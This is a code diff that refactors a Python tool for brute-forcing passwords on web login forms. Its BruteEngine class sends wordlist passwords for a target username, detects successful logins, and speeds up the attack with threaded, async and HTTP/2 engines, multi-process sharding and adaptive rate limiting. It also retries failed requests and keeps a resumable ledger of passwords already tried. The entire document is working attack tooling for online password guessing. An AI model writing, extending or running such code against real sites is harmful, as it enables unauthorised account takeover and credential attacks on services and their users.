@@ -1,28 +1,44 @@
 import requests
+from requests.adapters import HTTPAdapter
+from http.cookiejar import CookieJar, DefaultCookiePolicy
 import argparse
 import sys
-import re
 import yaml
 import threading
-from concurrent.futures import ThreadPoolExecutor, as_completed
-from time import sleep
+from concurrent.futures import ThreadPoolExecutor, wait, FIRST_COMPLETED
+from time import perf_counter
 from colorama import Fore, Style, init
-from queue import Queue
 import signal
+import socket
+import weakref
+import asyncio
+import secrets
+import itertools
+import multiprocessing
+import queue
+from urllib.parse import urljoin, urlparse
+from collections import namedtuple
+from classifier import ResponseClassifier, Verdict, status_codes
+from metrics import RunStats, StatsExporter
+from logwriter import LogWriter, LOG_FORMATS
+from console import Console
+from scheduler import Scheduler, RetryQueue, classify_error, parse_retry_after
+from sharding import run_shard
+from wordlist import CompiledWordlist, is_compiled_wordlist
+from tracing import Tracer, activate, timed_connection, aiohttp_trace_config, httpx_trace_hook
+from recording import ResponseRecorder
+from bodytemplate import BodyTemplate, BODY_FORMATS
+from ledger import AttemptLedger, wordlist_digest
 
 init(autoreset=True)
 
-# Global for graceful shutdown and result
-stop_event = threading.Event()
-result_lock = threading.Lock()
-first_result = {'found': None}
-log_lock = threading.Lock()
+# One completed attempt, as yielded by BruteEngine.results(); error is its kind (scheduler.ERROR_KINDS) or None
+AttemptResult = namedtuple('AttemptResult', 'index password verdict status latency error')
 
-def signal_handler(sig, frame):
-    print(Fore.YELLOW + '\n[!] Interrupted by user. Exiting gracefully...')
-    stop_event.set()
-
-signal.signal(signal.SIGINT, signal_handler)
+# How often waiting loops re-check the stop signal
+STOP_POLL_INTERVAL = 0.1
+# Longest run() waits, once stopped, for threads still connecting (their sockets cannot be cut off yet)
+STOP_GRACE = 2.0
 
 def load_config(config_path):
     if not config_path:
@@ -34,39 +50,18 @@ def load_config(config_path):
         print(Fore.RED + f"[!] Could not read config file: {e}")
         sys.exit(1)
 
-def log_result(logfile, message):
-    if logfile:
-        with log_lock:
-            with open(logfile, 'a') as f:
-                f.write(message + '\n')
-                f.flush()
-
-def detect_success(response, success_indicator, success_regex):
-    # Check for redirects (common on successful login)
-    if response.history:
-        return True
-    # Check for success indicator in response text
-    text = response.text.lower()
-    if success_indicator and success_indicator.lower() in text:
-        return True
-    if success_regex:
-        if re.search(success_regex, response.text):
-            return True
-    return False
-
-def detect_failure(response, failure_indicator, failure_regex):
-    text = response.text.lower()
-    if failure_indicator and failure_indicator.lower() in text:
-        return True
-    if failure_regex:
-        if re.search(failure_regex, response.text):
-            return True
-    return False
+def open_logfile(logfile, log_format='text'):
+    """Return (writer, owned): wrap a path in a LogWriter that the caller must close"""
+    if isinstance(logfile, str):
+        return LogWriter(logfile, log_format), True
+    return logfile, False
 
-def detect_captcha(response):
-    captcha_keywords = ["captcha", "recaptcha", "i am not a robot", "please verify"]
-    text = response.text.lower()
-    return any(word in text for word in captcha_keywords)
+def open_ledger(ledger, url, username, passwords):
+    """Return (ledger, owned): open a path as the AttemptLedger of this target and wordlist, which the caller must close"""
+    if isinstance(ledger, str):
+        wordlist = wordlist_digest(passwords) if isinstance(passwords, str) else None
+        return AttemptLedger(ledger, url, username, wordlist), True
+    return ledger, False
 
 def merge_config_arg(arg, config_val, default=None):
     if arg is not None:
@@ -75,107 +70,1257 @@ def merge_config_arg(arg, config_val, default=None):
         return config_val
     return default
 
-def brute_force_worker(url, username, password, username_field, password_field, headers, proxies, timeout, success_indicator, failure_indicator, success_regex, failure_regex, logfile, progress_queue, delay, debug):
-    if stop_event.is_set():
-        progress_queue.put(1)
-        return None
-    data = {username_field: username, password_field: password}
+class AbortableAdapter(HTTPAdapter):
+    """HTTPAdapter that remembers its connections, so abort() can cut off requests still waiting on a response"""
+    def __init__(self, *args, **kwargs):
+        self._connections = weakref.WeakSet()
+        self._connections_lock = threading.Lock()
+        super().__init__(*args, **kwargs)
+
+    def _track(self, manager):
+        connections, lock = self._connections, self._connections_lock
+
+        def tracking(pool_cls):
+            class TrackingPool(pool_cls):
+                # Times connection setup for attempts sampled by a tracing.Tracer
+                ConnectionCls = timed_connection(pool_cls.ConnectionCls)
+
+                def _new_conn(self):
+                    conn = super()._new_conn()
+                    with lock:
+                        connections.add(conn)
+                    return conn
+            return TrackingPool
+
+        manager.pool_classes_by_scheme = {scheme: tracking(cls) for scheme, cls in manager.pool_classes_by_scheme.items()}
+        return manager
+
+    def init_poolmanager(self, *args, **kwargs):
+        super().init_poolmanager(*args, **kwargs)
+        self._track(self.poolmanager)
+
+    def proxy_manager_for(self, proxy, **proxy_kwargs):
+        new = proxy not in self.proxy_manager
+        manager = super().proxy_manager_for(proxy, **proxy_kwargs)
+        return self._track(manager) if new else manager
+
+    def abort(self):
+        """Shut down every open socket; a request blocked on it fails at once"""
+        with self._connections_lock:
+            connections = list(self._connections)
+        for conn in connections:
+            sock = getattr(conn, 'sock', None)
+            if sock is not None:
+                try:
+                    sock.shutdown(socket.SHUT_RDWR)
+                except OSError:
+                    pass
+
+def create_session(pool_size, headers=None, proxies=None):
+    """Create one keep-alive session shared by all workers of a run"""
+    session = requests.Session()
+    # One connection per worker thread, reused across attempts
+    adapter = AbortableAdapter(pool_connections=1, pool_maxsize=pool_size, pool_block=True)
+    session.mount('http://', adapter)
+    session.mount('https://', adapter)
+    # Every attempt must start logged out, so never carry cookies between attempts
+    session.cookies.set_policy(DefaultCookiePolicy(allowed_domains=[]))
+    if headers:
+        session.headers.update(headers)
+    if proxies:
+        session.proxies.update(proxies)
+    return session
+
+def read_response_body(response, max_bytes):
+    """Read at most max_bytes of a streamed body, then return the connection to the pool"""
+    body = response.raw.read(max_bytes, decode_content=True)
+    # Discard the rest without decoding it so the keep-alive connection stays usable
+    response.raw.drain_conn()
+    response.raw.release_conn()
+    return body
+
+def decode_body(response, body=None):
+    if body is None:
+        return response.text
+    return body.decode(response.encoding or 'utf-8', errors='replace')
+
+def classify_response(response, classifier, body=None):
+    """Return (verdict, text, new_page) for a response.
+
+    An unfollowed first response decided by the classifier's redirect rules, and
+    pages whose fingerprint is already known, are answered without decoding or
+    scanning the body; text is None in that case. body holds the (possibly
+    truncated) bytes when the response was streamed.
+    """
+    if not response.history:
+        verdict = classifier.classify_head(response.status_code, response.headers.get('Location'), response.cookies)
+        if verdict is not None:
+            return verdict, None, False
+    content = response.content if body is None else body
+    redirects = [(r.status_code, r.headers.get('Location')) for r in response.history]
+    fingerprint = classifier.fingerprint(response.status_code, redirects, content)
+    verdict = classifier.known_verdict(fingerprint)
+    if verdict is not None:
+        return verdict, None, False
+    text = decode_body(response, body)
+    verdict = classifier.classify_text(text, redirected=bool(redirects))
+    return verdict, text, classifier.remember(fingerprint, verdict)
+
+def calibration_passwords(samples=2):
+    """Random passwords that are certain to be wrong"""
+    return [f"calibration-{secrets.token_hex(12)}" for _ in range(samples)]
+
+# Redirects that carry a Location worth checking
+REDIRECT_STATUS = (301, 302, 303, 307, 308)
+
+def needs_follow(classifier, status_code, location, cookies):
+    """True if an unfollowed redirect has to be followed because its head leaves the verdict open"""
+    return (not classifier.follow_redirects and status_code in REDIRECT_STATUS and bool(location)
+            and classifier.classify_head(status_code, location, cookies) is None)
+
+def send_attempt(session, url, data, timeout, max_bytes, classifier=None, trace=None, headers=None):
+    """POST one login attempt; returns (response, body) where body is None unless streamed.
+
+    data is a dict to send as a form, or a body pre-encoded by a
+    bodytemplate.BodyTemplate, whose headers are then passed along.
+
+    With a classifier that does not follow redirects, the redirect is only
+    followed (one GET, carrying the cookies it set) when its head is ambiguous.
+    A sampled attempt's trace gets 'request' (until the response head) and
+    'download' spans; its body is streamed so the two can be told apart.
+    """
+    follow = classifier is None or classifier.follow_redirects
+    stream = max_bytes is not None or trace is not None
+    start = perf_counter()
+    response = session.post(url, data=data, headers=headers, timeout=timeout, allow_redirects=follow, stream=stream)
+    if trace:
+        trace.add('request', start, status=response.status_code)
+    if classifier is not None and needs_follow(classifier, response.status_code, response.headers.get('Location'), response.cookies):
+        first = response
+        if stream:
+            read_response_body(first, 0)
+        start = perf_counter()
+        response = session.get(urljoin(first.url, first.headers['Location']), cookies=first.cookies, timeout=timeout, stream=stream)
+        response.history.insert(0, first)
+        if trace:
+            trace.add('request', start, status=response.status_code, redirect=True)
+    start = perf_counter()
+    body = read_response_body(response, max_bytes) if max_bytes is not None else None
+    if trace:
+        if body is None:
+            response.content  # read the streamed body here, inside its own span
+        trace.add('download', start)
+    return response, body
+
+def make_scheduler(threads, rate=None, adaptive=False, delay=0, stats=None, url=None, host_limits=None, breaker_threshold=None):
+    """Global pacing for one run; a per-thread delay becomes the equivalent threads/delay req/s rate"""
+    if not rate and delay > 0:
+        rate = threads / delay
+    host = urlparse(url).hostname if host_limits and url else None
+    return Scheduler(threads, rate, adaptive, stats, host, host_limits, breaker_threshold)
+
+class AsyncResponse:
+    """Buffered aiohttp response exposing the requests.Response attributes the engine uses"""
+    def __init__(self, status_code, url, content, history=(), headers=None, encoding=None, cookies=None):
+        self.status_code = status_code
+        self.url = url
+        self.content = content
+        self.history = list(history)
+        self.headers = headers or {}
+        self.encoding = encoding
+        self.cookies = cookies if cookies is not None else {}
+
+    @property
+    def text(self):
+        return self.content.decode(self.encoding or 'utf-8', errors='replace')
+
+async def read_async_body(resp, max_bytes):
+    """Read at most max_bytes of an aiohttp body, discarding the rest to keep the connection alive"""
+    if max_bytes is None:
+        return await resp.read()
+    chunks = []
+    size = 0
+    while size < max_bytes:
+        chunk = await resp.content.read(max_bytes - size)
+        if not chunk:
+            break
+        chunks.append(chunk)
+        size += len(chunk)
+    async for _ in resp.content.iter_chunked(65536):
+        pass
+    return b''.join(chunks)
+
+async def read_async_response(resp, max_bytes, history=()):
+    body = await read_async_body(resp, max_bytes)
+    history = list(history) + [AsyncResponse(r.status, str(r.url), b'', headers=r.headers, cookies=r.cookies) for r in resp.history]
+    return AsyncResponse(resp.status, str(resp.url), body, history, resp.headers, resp.charset, resp.cookies)
+
+async def send_async_attempt(http, url, data, proxy, timeout, max_bytes, classifier=None, trace=None, headers=None):
+    """The aiohttp counterpart of send_attempt"""
+    follow = classifier is None or classifier.follow_redirects
+    start = perf_counter()
+    async with http.post(url, data=data, headers=headers, proxy=proxy, timeout=timeout, allow_redirects=follow,
+                         trace_request_ctx=trace) as resp:
+        response = await read_traced_response(resp, max_bytes, trace, start)
+    location = response.headers.get('Location')
+    if classifier is None or not needs_follow(classifier, response.status_code, location, response.cookies):
+        return response
+    start = perf_counter()
+    async with http.get(urljoin(response.url, location), proxy=proxy, timeout=timeout, cookies=response.cookies,
+                        trace_request_ctx=trace) as resp:
+        return await read_traced_response(resp, max_bytes, trace, start, [response])
+
+async def read_traced_response(resp, max_bytes, trace, start, history=()):
+    """read_async_response, adding 'request' (sent at start, until the head) and 'download' spans to a sampled trace"""
+    if not trace:
+        return await read_async_response(resp, max_bytes, history)
+    args = {'redirect': True} if history else {}
+    trace.add('request', start, status=resp.status, **args)
+    start = perf_counter()
+    response = await read_async_response(resp, max_bytes, history)
+    trace.add('download', start)
+    return response
+
+async def open_http2_client(url, max_connections, headers=None, proxy=None, timeout=10):
+    """httpx client speaking HTTP/2 if the target does, HTTP/1.1 otherwise; returns (client, negotiated protocol).
+
+    https negotiates the protocol through ALPN. Plain http has no negotiation,
+    so HTTP/2 is tried with prior knowledge (h2c) on one GET of url and given up
+    if the server does not answer it. The protocol is None if the probe failed.
+    """
+    import httpx
+
+    def client(http1=True):
+        # Rejects every cookie, so each attempt starts logged out
+        cookies = httpx.Cookies(CookieJar(DefaultCookiePolicy(allowed_domains=[])))
+        limits = httpx.Limits(max_connections=max_connections, max_keepalive_connections=max_connections)
+        return httpx.AsyncClient(http1=http1, http2=True, headers=headers, proxy=proxy, cookies=cookies,
+                                 limits=limits, timeout=timeout)
+
+    if urlparse(url).scheme != 'https':
+        http = client(http1=False)
+        try:
+            return http, (await http.get(url)).http_version
+        except httpx.HTTPError:
+            await http.aclose()
+    http = client()
     try:
-        session = requests.Session()
-        response = session.post(url, data=data, headers=headers, proxies=proxies, timeout=timeout, allow_redirects=True)
-        if debug:
-            print(Fore.MAGENTA + f"[DEBUG] Tried {password}: Status={response.status_code}, URL={response.url}, Response snippet: {response.text[:200]}")
-        if detect_captcha(response):
+        return http, (await http.get(url)).http_version
+    except httpx.HTTPError:
+        return http, None
+
+async def read_http2_response(resp, max_bytes, trace=None, start=None, history=()):
+    """Buffer a streamed httpx response into an AsyncResponse, reading at most max_bytes of the body"""
+    if trace:
+        args = {'redirect': True} if history else {}
+        trace.add('request', start, status=resp.status_code, **args)
+    body_start = perf_counter()
+    if max_bytes is None:
+        body = await resp.aread()
+    else:
+        chunks = []
+        size = 0
+        # Read to the end, keeping only the start, so an HTTP/1.1 connection stays usable
+        async for chunk in resp.aiter_bytes():
+            if size < max_bytes:
+                chunks.append(chunk)
+                size += len(chunk)
+        body = b''.join(chunks)[:max_bytes]
+    if trace:
+        trace.add('download', body_start)
+    history = list(history) + [AsyncResponse(r.status_code, str(r.url), b'', headers=r.headers, cookies=r.cookies)
+                               for r in resp.history]
+    return AsyncResponse(resp.status_code, str(resp.url), body, history, resp.headers, resp.encoding, resp.cookies)
+
+async def send_http2_attempt(http, url, data, timeout, max_bytes, classifier=None, trace=None, headers=None):
+    """The httpx counterpart of send_async_attempt; on HTTP/2, attempts in flight share each connection"""
+    follow = classifier is None or classifier.follow_redirects
+    extensions = {'trace': httpx_trace_hook(trace)} if trace else None
+    body = {'content': data} if isinstance(data, bytes) else {'data': data}
+    start = perf_counter()
+    async with http.stream('POST', url, **body, headers=headers, timeout=timeout, follow_redirects=follow,
+                           extensions=extensions) as resp:
+        response = await read_http2_response(resp, max_bytes, trace, start)
+    location = response.headers.get('Location')
+    if classifier is None or not needs_follow(classifier, response.status_code, location, response.cookies):
+        return response
+    # The client keeps no cookies, so the ones the redirect set are sent by hand
+    cookie = '; '.join(f"{name}={value}" for name, value in response.cookies.items())
+    start = perf_counter()
+    async with http.stream('GET', urljoin(response.url, location), timeout=timeout, headers={'Cookie': cookie} if cookie else None,
+                           follow_redirects=True, extensions=extensions) as resp:
+        return await read_http2_response(resp, max_bytes, trace, start, [response])
+
+# Config file keys understood by BruteEngine.from_config: key -> (type, default)
+CONFIG_OPTIONS = {
+    'username_field': (str, 'username'),
+    'password_field': (str, 'password'),
+    'body_format': (str, 'form'),
+    'success_indicator': (str, 'welcome'),
+    'failure_indicator': (str, None),
+    'success_regex': (str, None),
+    'failure_regex': (str, None),
+    'proxy': (str, None),
+    'user_agent': (str, None),
+    'progress_interval': (int, 10),
+    'log_format': (str, 'text'),
+    'threads': (int, 4),
+    'timeout': (int, 10),
+    'delay': (float, 0),
+    'debug': (bool, False),
+    'max_body_kb': (float, None),
+    'calibrate': (bool, True),
+    'rate': (float, None),
+    'adaptive': (bool, False),
+    'engine': (str, 'threads'),
+    'processes': (int, 1),
+    'limit': (int, None),
+    'follow_redirects': (bool, True),
+    'success_status': (status_codes, None),
+    'failure_status': (status_codes, None),
+    'success_location': (str, None),
+    'failure_location': (str, None),
+    'success_cookie': (str, None),
+    'max_retries': (int, 3),
+    'retry_budget': (int, 100),
+    'breaker_threshold': (int, 10),
+    'ledger': (str, None),
+}
+
+class BruteEngine:
+    """One attack and everything it owns: settings, stop signal, result, session pool, logfile and stats.
+
+    Nothing is shared between engines, so any number of runs can happen one after
+    another (or side by side) in a single process. run() blocks and returns the
+    password found or None; start()/wait() do the same on a background thread;
+    cancel() stops the run from any thread; results() iterates over attempts as
+    they complete.
+
+    engine is 'threads' (a keep-alive session shared by a thread pool), 'async'
+    (`threads` coroutines on one event loop, requires aiohttp) or 'http2' (the
+    same coroutines over httpx, multiplexed on HTTP/2 connections where the
+    target supports it and on HTTP/1.1 ones otherwise; protocol records which). With processes > 1
+    the wordlist is split into that many shards, each run by its own engine
+    process. Wordlists are consumed lazily, so memory stays flat regardless of
+    their size. With max_body_kb set, only the first max_body_kb KB of each body
+    is inspected. With calibrate_baseline, two random wrong passwords are tried
+    first to record the failure page, so identical responses are classified
+    without a text scan. rate caps the run at that many requests/sec; with
+    adaptive, the number of requests in flight grows while latency stays low and
+    backs off (never above threads) on 429/503, timeouts and rising latency.
+    Stopping (a success, a CAPTCHA or cancel()) drops queued attempts and cuts
+    off requests in flight, so nothing is sent after the answer is known;
+    time_to_stop records how long that took. Engines handed the same
+    scheduler.HostLimits never have more than its
+    per_host requests in flight against one host between them. With
+    follow_redirects off, the first response is classified on its status
+    (success_status/failure_status), Location (success_location/failure_location
+    regexes) and cookies (success_cookie), and a redirect is only followed when
+    those leave the verdict open.
+
+    body_format is 'form' (URL-encoded) or 'json'; the body is encoded once
+    around the password (bodytemplate.BodyTemplate) and each attempt only
+    splices its password in.
+
+    A request that fails (timeout, refused, reset, or a 5xx answer) is queued
+    to be sent again after an exponential backoff, up to max_retries times per
+    password and retry_budget times per run; no worker sleeps meanwhile. After
+    breaker_threshold errors in a row the whole run pauses, and resumes once a
+    probe request gets an answer (0 disables the breaker).
+
+    With a tracing.Tracer, a sample of attempts records how long each phase
+    took (queue wait, scheduling, connect, request, download, classify, report).
+    With a recording.ResponseRecorder, every classified response is archived
+    for offline replay against other success/failure rules. With a ledger (a
+    SQLite path, or a ledger.AttemptLedger), completed attempts are remembered
+    across runs: a run resumes after the wordlist entries earlier runs covered,
+    skips passwords any earlier run tried against the same target, and returns
+    a password an earlier run found without sending anything. Attempts that
+    ended in an error are not remembered, so the next run tries them again.
+    """
+    def __init__(self, url, username, username_field='username', password_field='password', success_indicator='welcome',
+                 failure_indicator=None, success_regex=None, failure_regex=None, proxy=None, user_agent=None,
+                 progress_interval=10, logfile=None, log_format='text', threads=4, timeout=10, delay=0, debug=False,
+                 max_body_kb=None, calibrate_baseline=True, rate=None, adaptive=False, engine='threads', processes=1,
+                 limit=None, stats=None, console=None, host_limits=None, follow_redirects=True, success_status=None,
+                 failure_status=None, success_location=None, failure_location=None, success_cookie=None,
+                 max_retries=3, retry_budget=100, breaker_threshold=10, tracer=None, recorder=None, body_format='form',
+                 ledger=None):
+        self.url = url
+        self.username = username
+        self.username_field = username_field
+        self.password_field = password_field
+        self.body_format = body_format
+        self.success_indicator = success_indicator
+        self.failure_indicator = failure_indicator
+        self.success_regex = success_regex
+        self.failure_regex = failure_regex
+        self.proxy = proxy
+        self.user_agent = user_agent
+        self.progress_interval = progress_interval
+        self.logfile = logfile
+        self.log_format = log_format
+        self.threads = threads
+        self.timeout = timeout
+        self.delay = delay
+        self.debug = debug
+        self.max_body_kb = max_body_kb
+        self.calibrate_baseline = calibrate_baseline
+        self.rate = rate
+        self.adaptive = adaptive
+        self.engine = engine
+        self.processes = processes
+        self.limit = limit
+        self.follow_redirects = follow_redirects
+        self.success_status = success_status
+        self.failure_status = failure_status
+        self.success_location = success_location
+        self.failure_location = failure_location
+        self.success_cookie = success_cookie
+        self.max_retries = max_retries
+        self.retry_budget = retry_budget
+        self.breaker_threshold = breaker_threshold
+        self.host_limits = host_limits
+        self.tracer = tracer
+        self.recorder = recorder
+        self.ledger = ledger
+        self.stats = stats
+        self.console = console or Console()
+        self.stop_event = threading.Event()
+        self.result_lock = threading.Lock()
+        self.found = None
+        self.time_to_stop = None
+        self.protocol = None
+        self.classifier = None
+        # Raises ValueError for an unknown body_format before anything runs
+        self.template = BodyTemplate(username_field, password_field, username, body_format)
+        self.scheduler = None
+        self.retry_queue = None
+        self._budget_warned = False
+        self.session = None
+        self._owns_stats = stats is None
+        self._log = None
+        self._ledger = None
+        self._subscribers = []
+        # Set from start()/run() until the run's results are closed; results() is empty otherwise
+        self._accepting_results = False
+        self._start_results = None
+        self._running = False
+        self._thread = None
+        self._stop_lock = threading.Lock()
+        self._stop_requested = None
+        self._async_stop = None
+
+    @classmethod
+    def from_config(cls, config, **overrides):
+        """Build an engine from a config.yaml / targets_config.yaml style dict; keyword arguments win"""
+        options = {'url': config.get('url'), 'username': config.get('username')}
+        for key, (cast, default) in CONFIG_OPTIONS.items():
+            value = config.get(key)
+            options['calibrate_baseline' if key == 'calibrate' else key] = cast(value) if value is not None else default
+        options.update(overrides)
+        return cls(**options)
+
+    @property
+    def running(self):
+        return self._running
+
+    # --- Public API ---
+
+    def run(self, passwords, total=None):
+        """Attack with passwords (a wordlist path or any iterable) and return the password found, or None"""
+        if self._running:
+            raise RuntimeError("This BruteEngine is already running")
+        self._running = True
+        with self.result_lock:
+            self._accepting_results = True
+        self.stop_event.clear()
+        self.found = None
+        self.time_to_stop = None
+        self.protocol = None
+        self._stop_requested = None
+        if self._owns_stats:
+            self.stats = RunStats()
+        if total is None and not isinstance(passwords, str) and hasattr(passwords, '__len__'):
+            total = len(passwords)
+        if self.stats.total is None:
+            self.stats.total = total
+        self.classifier = ResponseClassifier(self.success_indicator, self.failure_indicator, self.success_regex,
+                                             self.failure_regex, self.max_body_kb, follow_redirects=self.follow_redirects,
+                                             success_status=self.success_status, failure_status=self.failure_status,
+                                             success_location=self.success_location, failure_location=self.failure_location,
+                                             success_cookie=self.success_cookie)
+        self.scheduler = make_scheduler(self.threads, self.rate, self.adaptive, self.delay, self.stats, self.url, self.host_limits,
+                                        self.breaker_threshold)
+        self.retry_queue = RetryQueue(self.retry_budget)
+        self._budget_warned = False
+        self._log, owns_log = open_logfile(self.logfile, self.log_format)
+        owns_ledger = False
+        try:
+            self.check_engine()
+            self._ledger, owns_ledger = open_ledger(self.ledger, self.url, self.username, passwords)
+            if self._ledger and self.check_ledger():
+                return self.found
+            if self.processes > 1:
+                self._run_sharded(passwords)
+            elif self.engine in ('async', 'http2'):
+                asyncio.run(self._attack_async(self._entries(passwords)))
+            else:
+                self._run_threads(self._entries(passwords))
+            self.console.stop()
+            if self._ledger and self._ledger.skipped and self._ledger.shards == 1:
+                self.console.event(Fore.CYAN + f"[INFO] Skipped {self._ledger.skipped} password(s) already tried against this target")
+            if self._stop_requested is not None:
+                self.time_to_stop = perf_counter() - self._stop_requested
+                msg = f"[INFO] Stopped {self.time_to_stop * 1000:.0f} ms after the stop request"
+                self.console.event(Fore.CYAN + msg)
+                self.log(msg, time_to_stop=round(self.time_to_stop, 4))
+            if not self.found:
+                self.console.event(Fore.YELLOW + "[RESULT] Password not found in the provided list.")
+                self.log("[RESULT] Password not found in the provided list.")
+            return self.found
+        finally:
+            self.console.stop()
+            self._close_results()
+            if owns_log:
+                self._log.close()
+            self._log = None
+            if owns_ledger:
+                self._ledger.close()
+            if self._ledger and self._ledger.error:
+                self.console.event(Fore.RED + f"[!] Stopped recording to the ledger: {self._ledger.error}")
+            self._ledger = None
+            self._running = False
+
+    def check_engine(self):
+        """Raise ImportError if the engine's HTTP client is not installed (shards check their own)"""
+        if self.processes > 1:
+            return
+        if self.engine == 'async':
+            try:
+                import aiohttp  # noqa: F401
+            except ImportError:
+                raise ImportError("The async engine requires aiohttp: pip3 install aiohttp") from None
+        elif self.engine == 'http2':
+            try:
+                import httpx, h2  # noqa: F401
+            except ImportError:
+                raise ImportError("The http2 engine requires httpx with HTTP/2 support: pip3 install 'httpx[http2]'") from None
+
+    def start(self, passwords, total=None, results=False):
+        """Run in a background thread; returns self, use wait() for the result.
+
+        With results=True, the next results() call iterates over every attempt
+        of this run, including those completed before it was called.
+        """
+        if self._running:
+            raise RuntimeError("This BruteEngine is already running")
+        self.check_engine()
+        with self.result_lock:
+            self._accepting_results = True
+            if results:
+                self._start_results = self._subscribe()
+        self._thread = threading.Thread(target=self.run, args=(passwords, total), name='brute-engine', daemon=True)
+        self._thread.start()
+        return self
+
+    def wait(self, timeout=None):
+        """Wait for a start()ed run and return the password found, or None"""
+        if self._thread:
+            self._thread.join(timeout)
+        return self.found
+
+    def cancel(self):
+        """Stop the run from any thread: no new attempts are sent and requests in flight are cut off"""
+        self.request_stop()
+
+    def request_stop(self):
+        """Set the stop signal, note when it was first set, and cut off every request in flight"""
+        with self._stop_lock:
+            if self._stop_requested is None:
+                self._stop_requested = perf_counter()
+        self.stop_event.set()
+        session = self.session
+        if session is not None:
+            for adapter in set(session.adapters.values()):
+                if isinstance(adapter, AbortableAdapter):
+                    adapter.abort()
+        async_stop = self._async_stop
+        if async_stop is not None:
+            loop, stopped = async_stop
+            try:
+                loop.call_soon_threadsafe(stopped.set)
+            except RuntimeError:
+                pass  # the event loop has already finished
+
+    def results(self):
+        """Iterate over an AttemptResult per attempt completed from now until the current run ends.
+
+        Empty if no run is active. After start(results=True), iterates over every
+        attempt of that run instead.
+        """
+        with self.result_lock:
+            subscriber, self._start_results = self._start_results, None
+            if subscriber is None:
+                if not self._accepting_results:
+                    return iter(())
+                subscriber = self._subscribe()
+        return self._iter_results(subscriber)
+
+    def _subscribe(self):
+        """Queue that receives the results of the current or next run; call with result_lock held"""
+        subscriber = queue.Queue()
+        self._subscribers.append(subscriber)
+        return subscriber
+
+    # --- Reporting ---
+
+    @staticmethod
+    def _iter_results(subscriber):
+        while True:
+            result = subscriber.get()
+            if result is None:
+                return
+            yield result
+
+    def _publish(self, result):
+        if self._subscribers:
+            with self.result_lock:
+                for subscriber in self._subscribers:
+                    subscriber.put(result)
+
+    def _close_results(self):
+        with self.result_lock:
+            self._accepting_results = False
+            for subscriber in self._subscribers:
+                subscriber.put(None)
+            self._subscribers = []
+
+    def log(self, message, **fields):
+        """Queue one record for the logfile (a LogWriter-like object), if there is one"""
+        if self._log:
+            self._log.write(message, **fields)
+
+    def flush_log(self):
+        """Wait until the logfile holds every record so far; a logfile that can no longer be written is reported, not raised"""
+        if hasattr(self._log, 'flush'):
+            try:
+                self._log.flush()
+            except Exception as e:
+                self.console.event(Fore.RED + f"[!] Could not write the logfile: {e}")
+
+    def report_changed_page(self, response, password):
+        """Flag the first few failure pages that differ from the calibrated baseline"""
+        if self.classifier.changed_pages > 3:
+            return
+        msg = f"[!] Response changed from baseline after trying: {password} (status={response.status_code}, URL={response.url})"
+        if self.classifier.changed_pages == 3:
+            msg += " - further changes not reported"
+        self.console.event(Fore.YELLOW + msg)
+        self.log(msg)
+
+    def evaluate_response(self, response, password, body=None, index=None, latency=None, trace=None):
+        """Classify one response, count and report it, and return its verdict"""
+        start = perf_counter()
+        verdict, text, new_page = classify_response(response, self.classifier, body)
+        if trace:
+            end = perf_counter()
+            trace.add('classify', start, end, verdict=verdict.value)
+            start = end
+        fields = {'index': index, 'status': response.status_code,
+                  'latency': round(latency, 4) if latency is not None else None, 'verdict': verdict.value}
+        if self.debug:
+            if text is None:
+                text = decode_body(response, body)
+            self.console.event(Fore.MAGENTA + f"[DEBUG] Tried {password}: Status={response.status_code}, URL={response.url}, Response snippet: {text[:200]}")
+        if new_page:
+            self.report_changed_page(response, password)
+        if verdict is Verdict.CAPTCHA:
             msg = f"[!] CAPTCHA detected after trying: {password}"
-            print(Fore.YELLOW + msg)
-            log_result(logfile, msg)
-            stop_event.set()
-            progress_queue.put(1)
-            return None
-        if detect_success(response, success_indicator, success_regex):
-            with result_lock:
-                if not first_result['found']:
-                    first_result['found'] = password
+            self.console.event(Fore.YELLOW + msg)
+            self.log(msg, **fields)
+            self.request_stop()
+        elif verdict is Verdict.SUCCESS:
+            with self.result_lock:
+                if not self.found:
+                    self.found = password
                     msg = f"[SUCCESS] Password found: {password}"
-                    print(Fore.GREEN + msg)
-                    log_result(logfile, msg)
-                    stop_event.set()
-            progress_queue.put(1)
-            return password
-        elif detect_failure(response, failure_indicator, failure_regex):
+                    self.console.event(Fore.GREEN + msg)
+                    self.log(msg, **fields)
+                    self.request_stop()
+                    self.flush_log()
+        elif verdict is Verdict.FAILURE:
             msg = f"[FAILURE] Tried: {password} - explicit failure detected"
-            print(Fore.RED + msg)
-            log_result(logfile, msg)
+            self.console.attempt(Fore.RED + msg)
+            self.log(msg, **fields)
         else:
             msg = f"[FAILURE] Tried: {password} - failed"
-            print(Fore.RED + msg)
-            log_result(logfile, msg)
-    except requests.exceptions.RequestException as e:
-        msg = f"[ERROR] Error trying {password}: {e}"
-        print(Fore.YELLOW + msg)
-        log_result(logfile, msg)
-        sleep(1)
-    finally:
-        progress_queue.put(1)
-        if delay > 0:
-            sleep(delay)
-    return None
+            self.console.attempt(Fore.RED + msg)
+            self.log(msg, **fields)
+        self._publish(AttemptResult(index, password, verdict, response.status_code, latency, None))
+        if self.recorder:
+            self.recorder.record(response, body, password, index, verdict.value, latency)
+        if self._ledger and verdict is not Verdict.CAPTCHA:
+            self._ledger.record(password, index, verdict.value)
+        if self.stats:
+            self.stats.record(verdict, latency)
+        if trace:
+            trace.add('report', start)
+        return verdict
+
+    def report_error(self, password, index, latency, error, kind):
+        """Report one attempt that failed for good (error is an exception or a message, kind its ERROR_KINDS entry)"""
+        if self.stats:
+            self.stats.record_error(kind, latency)
+        msg = f"[ERROR] Error trying {password} ({kind}): {error}"
+        self.console.event(Fore.YELLOW + msg)
+        self.log(msg, index=index, latency=round(latency, 4), verdict='error', error=kind)
+        self._publish(AttemptResult(index, password, None, None, latency, kind))
+
+    def retry_or_report(self, password, index, tries, latency, error, kind, retry_after=None):
+        """Queue a failed attempt to be sent again after a backoff, or report it once its retries (or the run's) are used up"""
+        if tries < self.max_retries:
+            if self.retry_queue.push((index, password, tries + 1), tries, retry_after):
+                if self.stats:
+                    self.stats.record_error(kind, latency, final=False)
+                msg = f"[RETRY] {password} failed ({kind}: {error}) - retry {tries + 1}/{self.max_retries} queued"
+                self.console.attempt(Fore.YELLOW + msg)
+                self.log(msg, index=index, latency=round(latency, 4), verdict='retry', error=kind)
+                return
+            if not self._budget_warned:
+                self._budget_warned = True
+                msg = f"[!] Retry budget of {self.retry_budget} used up - further errors are not retried"
+                self.console.event(Fore.YELLOW + msg)
+                self.log(msg)
+        self.report_error(password, index, latency, error, kind)
+
